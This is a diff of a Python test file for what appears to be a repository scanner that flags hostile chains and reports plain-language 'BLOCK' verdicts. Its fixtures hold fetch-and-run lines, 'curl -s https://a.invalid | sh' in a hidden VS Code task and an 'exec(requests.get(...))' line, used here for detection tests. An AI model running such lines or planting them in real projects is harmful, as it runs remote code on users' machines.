@@ -6,10 +6,11 @@ import re
 import pytest
 
 from inspection.rules.samples import HOSTILE, QUIET, task
+from sekisho.inspection.report import action
 from sekisho.inspection.report.document import as_json
-from sekisho.inspection.report.sarif import as_sarif, evidence
+from sekisho.inspection.report.sarif import as_sarif
 from sekisho.inspection.report.words import tell
-from sekisho.inspection.rules.chain import Chain
+from sekisho.inspection.rules.chain import STOP, Verdict
 from support.inspection import Files, inspected
 
 TASK: Files = {".vscode/tasks.json": task("curl -s https://a.invalid | sh", QUIET)}
@@ -28,8 +29,41 @@ def test_a_block_says_what_runs_when_and_what_to_do() -> None:
     assert told.startswith("BLOCK\n")
     assert "when the folder is opened in an editor" in told
     assert ".vscode/tasks.json:2  VS Code task [hidden from view]: curl -s https://a.invalid | sh" in told
-    assert "What to do: Do not open this folder in an editor" in told
-    assert "If it already ran: take the machine off the network" in told
+
+
+@pytest.mark.parametrize("rule", HOSTILE)
+def test_a_verdict_tells_somebody_who_cannot_program_what_to_do(rule: str) -> None:
+    for sample in HOSTILE[rule].values():
+        told = text(sample.files)
+        head = told.partition("\nWhat will run")[0]
+        assert "What to do now:\n  1. " in head
+        assert re.search("If it was already opened, installed or run(, and nobody can explain it)?:\n  1. Take", head)
+        assert "off the network" in head
+        assert "seed phrase" in head
+        assert "Found: " in head
+        if told.startswith("BLOCK"):
+            assert "Do not open, install or run this.\n" in head
+            assert "do not push it to GitHub" in " ".join(head.split())
+        for word in ("exec", "sink", "payload", "deserialis", "execut"):  # words of the trade
+            assert word not in head
+
+
+def test_no_chain_that_blocks_asks_for_less_than_to_stop() -> None:
+    asked = {
+        action(chain)
+        for samples in HOSTILE.values()
+        for sample in samples.values()
+        for chain in inspected(sample.files).chains
+        if chain.verdict == "block"
+    }
+    assert asked == {STOP}
+
+
+def test_what_the_baseline_accepts_is_told() -> None:
+    found = inspected(TASK)
+    told = "\n".join(tell(found._replace(verdict=Verdict.NO_CHAIN_FOUND, chains=(), accepted=found.chains)))
+    assert "accepted by the baseline: BLOCK  fetch_and_run at .vscode/tasks.json:2" in told
+    assert "Found: Chains that the baseline accepts, and no other." in told
 
 
 def test_the_steps_of_a_chain_stand_in_order() -> None:
@@ -46,6 +80,16 @@ def test_the_worst_comes_first() -> None:
     found = inspected(files)
     assert found.chains[0].verdict == "block"
     assert text(files).startswith("BLOCK\n")
+
+
+def test_many_of_one_kind_hide_none_of_another() -> None:
+    """Our own caches of machine code once filled the report with 25 pickles, and 266 chains were only a number."""
+    files = {f"m{n:02}.pkl": HOSTILE["shipped_object"]["a pickle lies there"].files["model.pkl"] for n in range(40)}
+    told = text(files | HOSTILE["persistence"]["a shell profile"].files)
+    assert told.count("shipped_object:") == 1
+    assert told.count("  sink    m") == 5
+    assert "  and 35 more like these, the next at m05.pkl" in told
+    assert "persistence:" in told
 
 
 def test_no_chain_found_is_said_with_its_coverage_and_never_called_safe() -> None:
@@ -109,12 +153,3 @@ def test_the_sarif_log_is_one_run_with_levels_places_and_flows() -> None:
     assert place["region"]["startLine"] == 2
     assert re.fullmatch(r"[A-Za-z0-9%/._~-]+", place["artifactLocation"]["uri"])
     assert len(result["codeFlows"][0]["threadFlows"][0]["locations"]) == 2
-
-
-def test_a_chain_keeps_its_name_when_its_lines_move() -> None:
-    def only(source: str) -> Chain:
-        return inspected({"a.py": source}).chains[0]
-
-    source = "import requests\nexec(requests.get('https://a.invalid').text)\n"
-    assert evidence(only(source)) == evidence(only("# more\n" + source))
-    assert evidence(only(source)) != evidence(only(source.replace("a.invalid", "b.invalid")))
